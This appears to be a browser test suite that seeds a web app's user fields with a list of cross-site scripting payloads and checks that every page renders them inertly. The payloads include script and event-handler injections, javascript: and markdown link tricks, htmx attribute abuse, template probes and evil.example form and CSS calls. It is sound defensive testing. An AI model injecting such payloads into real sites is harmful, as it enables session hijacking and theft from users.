"""Cross-site scripting in a real browser: every payload below goes into every field a person can
write (through the API, or over the chat WebSocket), and Chromium then opens every page that shows
those fields. Whether a field accepts a payload or refuses it with a 4xx is the field's business;
what it accepts must render inertly: no dialog fires, no `on*` attribute, no `<script>` but our
own from /static, no `hx-*` attribute carrying the payload, no `javascript:` URL, and the text
shows as text. The page fixture also fails on any CSP violation or console error.

Each payload carries markers unique to it and to the field (`zq07ln`: payload 7 in the lounge
name) so that anything found on a page is traced to its origin. The seeding and the page visits
happen once per payload (cached); each payload × field pair is then its own test item.
"""

from __future__ import annotations

import json
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest
from playwright.sync_api import Page, expect
from websockets.sync.client import connect

from tests.browser.helpers_lounges import api_client, move_live_session, signed_in_page

pytestmark = pytest.mark.browser

PASSWORD = "correct horse battery"
LIVE_SERVER_ENV = {
    "LOUNGE_RATE_LIMITS_ENABLED": "false",
    "LOUNGE_WEBHOOK_ALLOWLIST": "127.0.0.1",
}
WEBHOOK_TARGET = "http://127.0.0.1:9/hook"  # never called: its event is never raised here

# `{m}` is replaced by the marker of the payload in the field.
PAYLOADS: list[str] = [
    "<script>alert('{m}')</script>",
    "<ScRiPt>alert('{m}')</sCrIpT>",
    "<script src=/static/app.js?{m}></script>",
    "<img src=x onerror=alert('{m}')>",
    '<img src="x" onerror="alert(\'{m}\')" />',
    "<svg onload=alert('{m}')>",
    "<svg><script>alert('{m}')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('{m}')\"><text>x</text></a></svg>",
    "<body onload=alert('{m}')>",
    "<iframe srcdoc=\"<script>alert('{m}')</script>\">",
    "<iframe src=\"javascript:alert('{m}')\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",
    "<style>@import 'https://evil.example/{m}.css';</style><b>{m}</b>",
    "<div style=\"background:url(javascript:alert('{m}'))\">x</div>",
    "<a href=\"javascript:alert('{m}')\">x</a>",
    "<a href=\"jav&#x09;ascript:alert('{m}')\">x</a>",
    "<a href=\"&#106;avascript:alert('{m}')\">x</a>",
    "[x](javascript:alert('{m}'))",
    "[x](JaVaScRiPt:alert('{m}'))",
    "[x](javascript&#58;alert('{m}'))",
    "[x][r]\n\n[r]: javascript:alert('{m}')",
    "<javascript:alert('{m}')>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) {m}",
    "![x](x\" onerror=\"alert('{m}'))",
    "[x](https://e.example/\" onmouseover=\"alert('{m}'))",
    '<div hx-get="/api/v1/me?{m}" hx-trigger="load">x</div>',
    '<button hx-post="/api/v1/auth/logout?{m}" hx-trigger="load">x</button>',
    "<div hx-on:click=\"alert('{m}')\">click</div>",
    "<div hx-on::load=\"alert('{m}')\">x</div>",
    '<div data-hx-get="/api/v1/me?{m}" data-hx-trigger="load">x</div>',
    "<div hx-vals='js:{a: alert(\"{m}\")}' hx-get=\"/\" hx-trigger=\"load\">x</div>",
    '<hx-partial hx-target="body" hx-swap="innerHTML">{m}</hx-partial>',
    "<form action=\"javascript:alert('{m}')\"><button>x</button></form>",
    '<form action="https://evil.example/{m}"><input name=q></form>',
    "<button formaction=\"javascript:alert('{m}')\">x</button>",
    "<input autofocus onfocus=alert('{m}')>",
    "\" autofocus onfocus=alert('{m}') x=\"",
    "' autofocus onfocus=alert('{m}') x='",
    "\"><script>alert('{m}')</script>",
    "</textarea><script>alert('{m}')</script>",
    "</title><script>alert('{m}')</script>",
    "<details open ontoggle=alert('{m}')>",
    "<video><source onerror=alert('{m}')></video>",
    "<object data=\"javascript:alert('{m}')\">",
    "<embed src=\"javascript:alert('{m}')\">",
    "<base href=\"javascript:alert('{m}')//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('{m}')\">",
    "<template><script>alert('{m}')</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('{m}')>\">",
    "<scr<script>ipt>alert('{m}')</script>",
    "＜script＞alert('{m}')＜/script＞",
    "\\u003cscript\\u003ealert('{m}')\\u003c/script\\u003e",
    "&lt;script&gt;alert('{m}')&lt;/script&gt;",
    "%3Cscript%3Ealert('{m}')%3C%2Fscript%3E",
    "<a href=\"java\u200bscript:alert('{m}')\">x</a>",
    "<img src=x onerror=alert&#40;'{m}'&#41;>",
    "{{7*7}} {{'{m}'|upper}}",
    "{% if 1 %}{{'{m}'|upper}}{% endif %}",
    "${'{m}'.toUpperCase()} ${7*7}",
    "javascript:alert('{m}')",
    "https://e.example/{m}\"><script>alert(1)</script>",
]


@dataclass(frozen=True)
class Field:
    """A user-writable field: `kind` says how its accepted text must show ("text": the stored
    value verbatim; "markdown": its marker; "value": an input's value; "href": a link's target);
    `shown` lists the (page, selector) places that show it."""

    code: str
    kind: str
    shown: tuple[tuple[str, str], ...]


FIELDS: dict[str, Field] = {f.code: f for f in [
    Field("dn", "text", (("home", "#nav-me"), ("lounge", "#member-list"), ("session", "#session-details"))),
    Field("bi", "value", (("settings", "#profile-form-bio"),)),
    Field("ha", "value", (("settings", "#profile-form-handle"),)),
    Field("tk", "text", (("settings", "#token-list"),)),
    Field("ln", "text", (("lounges", "#lounge-results"), ("lounge", "h1"),
                         ("session", "nav[aria-label=Breadcrumb]"), ("home", "main"),
                         ("webhooks", "#webhook-list"))),
    Field("ld", "markdown", (("lounges", "#lounge-results"), ("lounge", "#lounge-about"))),
    Field("lt", "text", (("lounge", "#lounge-about .tags"),)),
    Field("st", "text", (("session", "h1"), ("lounge", "#sessions-heading + *"), ("schedule", "main"),
                         ("home", "main"))),
    Field("sd", "markdown", (("session", "#session-details .markdown"),)),
    Field("sl", "text", (("session", "#session-details"), ("schedule", "main"))),
    Field("sj", "href", (("session", "#session-details"),)),
    Field("sn", "markdown", (("session", "#session-notes"),)),
    Field("rt", "text", (("session", "#resource-list"),)),
    Field("ru", "href", (("session", "#resource-list"),)),
    Field("fc", "text", (("session", "ul.feedback"),)),
    Field("ft", "text", (("session", "ul.takeaways"), ("lounge", "ul.takeaways"))),
    Field("ch", "markdown", (("lounge", "[data-role=log]"),)),
    Field("cw", "markdown", (("session", "[data-role=log]"),)),
    Field("nt", "text", (("notifications", "#notification-list"),)),
    Field("wd", "text", (("webhooks", "#webhook-list"), ("admin", "#webhook-list"))),
    Field("gt", "text", (("goal", "#goal-title"), ("goals", "#my-goals"), ("home", "main"),
                         ("manager-view", "#manager-view"))),
    Field("gw", "markdown", (("goal", "#part-why"),)),
    Field("g1", "markdown", (("goal", "#part-where_i_am"),)),
    Field("g2", "markdown", (("goal", "#part-where_i_want_to_be"),)),
    Field("g3", "markdown", (("goal", "#part-how_i_will_get_there"),)),
    Field("g4", "markdown", (("goal", "#part-how_i_will_know"),)),
    Field("gk", "markdown", (("goal", "#part-details"),)),  # split at commas into skills
    Field("pt", "text", (("goal", "#plan"), ("goals", "#my-goals"), ("home", "main"),
                         ("manager-view", "#manager-view"))),
    Field("ci", "text", (("goal", "#checkin-timeline"), ("manager-view", "#manager-view"))),
    Field("cm", "markdown", (("goal", "#comment-items"),)),
    Field("sg", "text", (("goal", "ul.suggestions"),)),
    Field("bt", "text", (("goal", "#part-details"), ("admin", "#business-goal-list"))),
    Field("bd", "text", (("admin", "#business-goal-list"),)),
]}
NAMES = {
    "dn": "display name", "bi": "bio", "ha": "handle", "tk": "token name", "ln": "lounge name",
    "ld": "lounge description", "lt": "lounge tags", "st": "session title", "sd": "session description",
    "sl": "session location", "sj": "join link", "sn": "session notes", "rt": "resource title",
    "ru": "resource url", "fc": "feedback comment", "ft": "feedback takeaway", "ch": "chat over HTTP",
    "cw": "chat over WebSocket", "nt": "notification", "wd": "webhook description",
    "gt": "goal title", "gw": "goal why", "g1": "goal where I am", "g2": "goal where I want to be",
    "g3": "goal how I will get there", "g4": "goal how I will know", "gk": "goal skills",
    "pt": "plan item title", "ci": "check-in note", "cm": "goal comment", "sg": "suggestion note",
    "bt": "business goal title", "bd": "business goal description",
}


def marker(index: int, code: str) -> str:
    return f"zq{index:02d}{code}"


def value_for(index: int, code: str) -> str:
    """The payload as it goes into a field: its marker first (so the text can be found), except
    in URL fields, where it must stay a URL to be accepted at all."""
    payload = PAYLOADS[index].replace("{m}", marker(index, code))
    return payload if FIELDS[code].kind == "href" else f"{marker(index, code)} {payload}"


@dataclass
class Outcome:
    """What a field did with the payload: accepted (and stored as `stored`) or refused (4xx)."""

    status: int
    stored: str | None = None

    @property
    def accepted(self) -> bool:
        return self.status < 300


@dataclass
class Rendering:
    """One payload, seeded everywhere and seen in Chromium: each field's outcome, and what each
    page showed (findings traced to a field by marker, or to none)."""

    outcomes: dict[str, Outcome] = field(default_factory=dict)
    findings: dict[str, list[str]] = field(default_factory=dict)  # field code ("" = untraced)
    missing: dict[str, list[str]] = field(default_factory=dict)  # text not shown where expected
    page_problems: list[str] = field(default_factory=list)

    def found(self, code: str, what: str) -> None:
        self.findings.setdefault(code, []).append(what)


def _outcome(response: httpx.Response, stored: Callable[[dict[str, Any]], str]) -> Outcome:
    assert response.status_code < 300 or 400 <= response.status_code < 500, response.text
    return Outcome(response.status_code, stored(response.json()) if response.status_code < 300 else None)


def _send_over_socket(base_url: str, token: str, channel_id: str, body: str) -> Outcome:
    """Send one chat message with the JSON protocol; accepted when acked, refused on an error."""
    url = base_url.replace("http://", "ws://") + f"/api/v1/channels/{channel_id}/ws"
    client_id = f"xss-{time.monotonic_ns()}"
    with connect(url, additional_headers={"Authorization": f"Bearer {token}"}, open_timeout=10) as socket:
        assert json.loads(socket.recv(timeout=10))["type"] == "hello"
        socket.send(json.dumps({"type": "send", "client_id": client_id, "body": body}))
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            event = json.loads(socket.recv(timeout=10))
            if event["type"] == "ack" and event["client_id"] == client_id:
                return Outcome(201, body)
            if event["type"] == "error":
                return Outcome(422)
    raise AssertionError("the socket neither acknowledged nor refused the message")


def _wait_for_notification(api: httpx.Client) -> Outcome:
    """The outbox worker tells those going that the session changed (its title is the
    author's text); wait for it."""
    for _ in range(200):
        items = api.get("/api/v1/notifications").json()["items"]
        found = [n for n in items if n["kind"] == "session.updated"]
        if found:
            return Outcome(200, found[0]["title"])
        time.sleep(0.1)
    raise AssertionError("no notification arrived about the changed session")


@dataclass
class World:
    """Where one payload's author put things, for the page visits."""

    email: str
    slug: str
    session_id: str
    goal_id: str


def _register(base_url: str, email: str, display_name: str) -> httpx.Response:
    return httpx.post(f"{base_url}/api/v1/auth/register", json={
        "email": email, "password": PASSWORD, "display_name": display_name})


def seed(base_url: str, index: int, rendering: Rendering, admin_email: str) -> World:
    """Put payload `index` into every field through the API; returns where it went."""
    out = rendering.outcomes
    v = lambda code: value_for(index, code)  # noqa: E731

    email = f"xss{index}-{time.monotonic_ns()}@example.com"
    out["dn"] = _outcome(_register(base_url, email, v("dn")), lambda body: body["display_name"])
    if not out["dn"].accepted:
        assert _register(base_url, email, f"Author {index}").status_code == 201
    api = api_client(base_url, email, PASSWORD)
    out["bi"] = _outcome(api.patch("/api/v1/me", json={"bio": v("bi")}), lambda b: b["bio"])
    out["ha"] = _outcome(api.patch("/api/v1/me", json={"handle": v("ha")}), lambda b: b["handle"])
    out["tk"] = _outcome(api.post("/api/v1/me/tokens", json={"name": v("tk"), "scopes": ["read"]}),
                         lambda b: b["name"])

    lounge = api.post("/api/v1/lounges", json={"name": f"Lounge {marker(index, 'xx')}"}).json()
    path = f"/api/v1/lounges/{lounge['id']}"
    out["ln"] = _outcome(api.patch(path, json={"name": v("ln")}), lambda b: b["name"])
    out["ld"] = _outcome(api.patch(path, json={"description": v("ld")}), lambda b: b["description"])
    out["lt"] = _outcome(api.patch(path, json={"tags": [v("lt")]}), lambda b: " ".join(b["tags"]))

    now = datetime.now(UTC)
    session = api.post(f"{path}/sessions", json={
        "title": f"Session {marker(index, 'xx')}", "starts_at": (now + timedelta(days=1)).isoformat(),
        "ends_at": (now + timedelta(days=1, hours=3)).isoformat(), "time_zone": "UTC"}).json()
    move_live_session(base_url, session["id"], starts_at=now - timedelta(minutes=5),
                      ends_at=now + timedelta(hours=3))
    spath = f"/api/v1/sessions/{session['id']}"
    assert api.put(f"{spath}/rsvp", json={"status": "going"}).status_code == 200
    out["st"] = _outcome(api.patch(spath, json={"title": v("st")}), lambda b: b["title"])
    out["sd"] = _outcome(api.patch(spath, json={"description": v("sd")}), lambda b: b["description"])
    out["sl"] = _outcome(api.patch(spath, json={"location": v("sl")}), lambda b: b["location"])
    out["sj"] = _outcome(api.patch(spath, json={"join_url": v("sj")}), lambda b: b["join_url"])
    out["sn"] = _outcome(api.put(f"{spath}/notes", json={"notes": v("sn")}), lambda b: b["notes"])
    out["rt"] = _outcome(api.post(f"{spath}/resources", json={"title": v("rt"), "url": "https://e.example/r"}),
                         lambda b: b["title"])
    out["ru"] = _outcome(api.post(f"{spath}/resources", json={"title": "Slides", "url": v("ru")}),
                         lambda b: b["url"])
    out["fc"] = _outcome(api.put(f"{spath}/feedback", json={"rating": 4, "comment": v("fc")}),
                         lambda b: b["comment"])
    comment = out["fc"].stored or ""
    out["ft"] = _outcome(api.put(f"{spath}/feedback", json={"rating": 4, "comment": comment,
                                                           "takeaway": v("ft")}), lambda b: b["takeaway"])
    messages = f"/api/v1/channels/{lounge['channel_id']}/messages"
    out["ch"] = _outcome(api.post(messages, json={"body": v("ch")}), lambda b: b["body"])
    token = api.headers["Authorization"].removeprefix("Bearer ")
    out["cw"] = _send_over_socket(base_url, token, session["channel_id"], v("cw"))
    # A new end time tells everyone going (the author too) that the session changed.
    ends = (now + timedelta(hours=3, minutes=30)).isoformat()
    assert api.patch(spath, json={"ends_at": ends}).status_code == 200
    shown = _wait_for_notification(api)
    out["nt"] = shown if out["st"].accepted else Outcome(out["st"].status)  # its text is the title's
    out["wd"] = _outcome(api.post("/api/v1/webhooks", json={
        "url": WEBHOOK_TARGET, "events": ["session.cancelled"], "description": v("wd"),
        "lounge_id": lounge["id"]}), lambda b: b["description"])
    goal_id = _seed_goal(base_url, index, api, rendering, admin_email)
    api.close()
    return World(email=email, slug=lounge["slug"], session_id=session["id"], goal_id=goal_id)


def _seed_goal(base_url: str, index: int, api: httpx.Client, rendering: Rendering, admin_email: str) -> str:
    """A learning contract shared with everyone, each of its fields written on its own, serving
    a business goal the administrator published; its plan, a check-in, a comment, and a
    colleague's suggestion; returns the goal's id."""
    out = rendering.outcomes
    v = lambda code: value_for(index, code)  # noqa: E731

    created = api.post("/api/v1/goals", json={"title": v("gt"), "visibility": "org"})
    out["gt"] = _outcome(created, lambda b: b["title"])
    if not out["gt"].accepted:
        created = api.post("/api/v1/goals", json={"title": f"Goal {marker(index, 'xx')}",
                                                  "visibility": "org"})
        assert created.status_code == 201, created.text
    goal = created.json()
    path = f"/api/v1/goals/{goal['id']}"
    for code, name in (("gw", "why"), ("g1", "where_i_am"), ("g2", "where_i_want_to_be"),
                       ("g3", "how_i_will_get_there"), ("g4", "how_i_will_know")):
        out[code] = _outcome(api.patch(path, json={name: v(code)}), lambda b, name=name: b[name])
    out["gk"] = _outcome(api.patch(path, json={"skills": [v("gk")]}), lambda b: ", ".join(b["skills"]))
    # One business goal per payload where both fields take it: the administrator's list shows
    # the first 100 published, and every payload must find its own there.
    with api_client(base_url, admin_email, PASSWORD, scopes=["read", "write", "admin"]) as admin:
        publish = lambda title, description="": admin.post(  # noqa: E731
            "/api/v1/business-goals", json={"title": title, "description": description})
        published = publish(v("bt"), v("bd"))
        if published.status_code < 300:
            out["bt"] = _outcome(published, lambda b: b["title"])
            out["bd"] = _outcome(published, lambda b: b["description"])
        else:
            published = publish(v("bt"))
            out["bt"] = _outcome(published, lambda b: b["title"])
            described = publish(f"Described {marker(index, 'xx')}", v("bd"))
            out["bd"] = _outcome(described, lambda b: b["description"])
            if not out["bt"].accepted:
                published = publish(f"Served {marker(index, 'xx')}")
    assert api.patch(path, json={"business_goal_id": published.json()["id"]}).status_code == 200
    out["pt"] = _outcome(api.post(f"{path}/plan", json={"kind": "activity", "title": v("pt")}),
                         lambda b: b["title"])
    out["ci"] = _outcome(api.post(f"{path}/checkins", json={"note": v("ci")}), lambda b: b["note"])
    out["cm"] = _outcome(api.post(f"{path}/comments", json={"body": v("cm")}), lambda b: b["body"])
    helper = f"xss{index}-helper-{time.monotonic_ns()}@example.com"
    assert _register(base_url, helper, f"Helper {index}").status_code == 201
    with api_client(base_url, helper, PASSWORD) as colleague:
        me = colleague.get("/api/v1/me").json()
        out["sg"] = _outcome(colleague.post(f"{path}/suggestions", json={
            "kind": "person", "person_id": me["id"], "note": v("sg")}), lambda b: b["note"])
    return goal["id"]


# Attributes that may carry a person's text (escaped by Jinja): form values, link targets,
# accessible names, and hx-confirm, whose text (starting with ours) only ever reaches confirm().
_INSPECT = """
(markers) => {
  const found = [];
  const traced = (text) => markers.filter((m) => text.includes(m));
  const urlAttributes = new Set(["href", "src", "action", "formaction", "xlink:href", "data", "srcdoc",
                                  "poster", "background"]);
  const textAttributes = new Set(["value", "href", "aria-label", "hx-confirm"]);
  for (const el of document.querySelectorAll("*")) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      const value = attr.value;
      const where = `<${el.localName} ${name}="${value.slice(0, 80)}">`;
      if (name.startsWith("on")) found.push([traced(el.outerHTML), `event handler ${where}`]);
      if ((name.startsWith("hx-") || name.startsWith("data-hx-")) && traced(value).length
          && !(name === "hx-confirm" && !/^\\s*(js|javascript):/i.test(value))) {
        found.push([traced(value), `htmx attribute ${where}`]);
      }
      if (urlAttributes.has(name) && /^javascript:/i.test(value.replace(/[\\u0000-\\u0020]/g, ""))) {
        found.push([traced(el.outerHTML), `javascript: URL ${where}`]);
      }
      if (traced(value).length && !textAttributes.has(name)) {
        found.push([traced(value), `payload in an attribute ${where}`]);
      }
    }
  }
  for (const script of document.scripts) {
    const src = script.getAttribute("src") || "";
    const url = src ? new URL(src, location.href) : null;
    if (!url || url.origin !== location.origin || !url.pathname.startsWith("/static/")
        || traced(src).length) {
      found.push([traced(script.outerHTML), `script ${script.outerHTML.slice(0, 120)}`]);
    }
  }
  // Elements no person's text may create (each payload carries its marker inside them), and
  // ones our pages have but never with a person's text in their own attributes or text.
  const never = "iframe, frame, object, embed, base, body meta, body link, body style, svg, math, img, "
    + "video, audio, source, template, marquee, hx-partial";
  for (const el of document.querySelectorAll(never)) {
    const marks = traced(el.outerHTML);
    if (marks.length) found.push([marks, `injected element ${el.outerHTML.slice(0, 120)}`]);
  }
  const own = (el) => [...el.attributes].map((a) => a.value).join(" ") + " "
    + [...el.childNodes].filter((n) => n.nodeType === Node.TEXT_NODE).map((n) => n.textContent).join(" ");
  for (const el of document.querySelectorAll("b, i, u, font, noscript, form, details, div, p, span")) {
    if (el.matches("textarea *")) continue;
    const marks = traced(own(el));
    if (marks.length && ["b", "i", "u", "font", "noscript", "form", "details"].includes(el.localName)) {
      found.push([marks, `injected element ${el.outerHTML.slice(0, 120)}`]);
    }
  }
  const text = document.body.innerText;
  for (const m of markers) {
    if (text.includes(m.toUpperCase())) found.push([[m], `template evaluated: ${m.toUpperCase()} shown`]);
  }
  return found;
}
"""

PAGES = ("home", "lounges", "lounge", "session", "schedule", "settings", "notifications", "webhooks",
         "goals", "goal", "manager-view")


def _path(name: str, index: int, world: World) -> str:
    return {"home": "/", "lounges": f"/lounges?q=zq{index:02d}", "lounge": f"/lounges/{world.slug}",
            "session": f"/sessions/{world.session_id}", "schedule": "/schedule", "settings": "/settings",
            "notifications": "/notifications", "webhooks": "/webhooks", "admin": "/admin",
            "goals": "/goals", "goal": f"/goals/{world.goal_id}", "manager-view": "/me/manager-view"}[name]


def _settle(page: Page) -> None:
    """Wait for what the page loads after itself (htmx `load` triggers, the chat socket)."""
    expect(page.locator("main")).not_to_contain_text("Loading your")
    if page.locator("[data-chat-panel]").count():
        expect(page.locator("[data-role=online]")).not_to_have_text("Connecting…")


def _check_shown(page: Page, name: str, index: int, rendering: Rendering) -> None:
    for code, spec in FIELDS.items():
        outcome = rendering.outcomes[code]
        if not outcome.accepted:
            continue
        for page_name, selector in spec.shown:
            if page_name != name:
                continue
            place = page.locator(selector).first
            try:
                if spec.kind == "text":
                    expect(place).to_contain_text(outcome.stored, use_inner_text=True, timeout=3000)
                elif spec.kind == "markdown":
                    expect(place).to_contain_text(marker(index, code), use_inner_text=True, timeout=3000)
                elif spec.kind == "value":
                    expect(place).to_have_value(outcome.stored, timeout=3000)
                else:
                    link = place.locator(f"a[href={json.dumps(outcome.stored)}]")
                    expect(link).to_have_count(1, timeout=3000)
            except AssertionError as error:
                rendering.missing.setdefault(code, []).append(
                    f"{name} {selector}: {str(error).splitlines()[0]}")


def _visit(page: Page, name: str, index: int, world: World, rendering: Rendering, dialogs: list[str]) -> None:
    response = page.goto(_path(name, index, world))
    assert response is not None and response.status == 200, f"{name}: {response and response.status}"
    _settle(page)
    _check_shown(page, name, index, rendering)  # waits for the chat history too
    markers = [marker(index, code) for code in FIELDS]
    for traced, what in page.evaluate(_INSPECT, markers):
        for m in traced or [""]:
            rendering.found(m[-2:] if m else "", f"{name}: {what}")
    for message in dialogs:
        codes = [m[-2:] for m in markers if m in message] or [""]
        for code in codes:
            rendering.found(code, f"{name}: a dialog fired: {message!r}")
    dialogs.clear()


def _watch_dialogs(page: Page) -> list[str]:
    fired: list[str] = []

    def record(dialog) -> None:
        fired.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", record)
    return fired


@pytest.fixture(scope="module")
def renderings() -> dict[int, Rendering]:
    return {}


@pytest.fixture(scope="module")
def administrator(live_server: str) -> dict[str, str]:
    """The first account of this server, hence its administrator (who sees /admin)."""
    email = f"admin-{time.monotonic_ns()}@example.com"
    answer = _register(live_server, email, "Ada Admin")
    assert answer.status_code == 201 and answer.json()["is_admin"], answer.text
    return {"email": email}


@pytest.fixture
def rendered(live_server, administrator, renderings, new_page) -> Callable[[int], Rendering]:
    """`rendered(i)`: payload i seeded in every field and seen on every page (once per payload)."""

    def render(index: int) -> Rendering:
        if index in renderings:
            return renderings[index]
        rendering = Rendering()
        renderings[index] = rendering
        world = seed(live_server, index, rendering, administrator["email"])
        author, _ = signed_in_page(new_page, world.email, PASSWORD)
        dialogs = _watch_dialogs(author)
        for name in PAGES:
            _visit(author, name, index, world, rendering, dialogs)
        admin, _ = signed_in_page(new_page, administrator["email"], PASSWORD)
        admin_dialogs = _watch_dialogs(admin)
        _visit(admin, "admin", index, world, rendering, admin_dialogs)
        rendering.page_problems = list(new_page.watch.problems)
        return rendering

    return render


@pytest.fixture(scope="module", autouse=True)
def report_matrix(request: pytest.FixtureRequest, renderings):
    yield
    if not renderings:
        return
    accepted = sum(o.accepted for r in renderings.values() for o in r.outcomes.values())
    total = sum(len(r.outcomes) for r in renderings.values())
    per_field = ", ".join(f"{NAMES[code]} {sum(r.outcomes[code].accepted for r in renderings.values())}"
                          for code in FIELDS)
    plugins = request.config.pluginmanager
    reporter, capture = plugins.get_plugin("terminalreporter"), plugins.get_plugin("capturemanager")
    if reporter is not None and capture is not None:
        with capture.global_and_fixture_disabled():
            reporter.write_line(
                f"\nXSS matrix: {len(renderings)} payloads × {len(FIELDS)} fields = {total} cases; "
                f"{accepted} accepted and rendered inertly, {total - accepted} refused with a 4xx. "
                f"Accepted per field: {per_field}.")


def test_the_matrix_is_large_enough() -> None:
    assert len(PAYLOADS) >= 40 and len(set(PAYLOADS)) == len(PAYLOADS)
    assert len(FIELDS) == len(NAMES)


@pytest.mark.parametrize("code", list(FIELDS), ids=[NAMES[c].replace(" ", "-") for c in FIELDS])
@pytest.mark.parametrize("index", range(len(PAYLOADS)), ids=[f"p{i:02d}" for i in range(len(PAYLOADS))])
def test_payload_in_field_renders_inertly(rendered, index: int, code: str) -> None:
    rendering = rendered(index)
    outcome = rendering.outcomes[code]
    problems = rendering.findings.get(code, []) + rendering.findings.get("", [])
    assert not problems, f"{PAYLOADS[index]!r} in the {NAMES[code]}:\n  " + "\n  ".join(problems)
    assert not rendering.page_problems, "the pages reported problems:\n  " + "\n  ".join(
        rendering.page_problems)
    if outcome.accepted:
        missing = rendering.missing.get(code, [])
        assert not missing, f"{NAMES[code]} {outcome.stored!r} not shown as text:\n  " + "\n  ".join(missing)
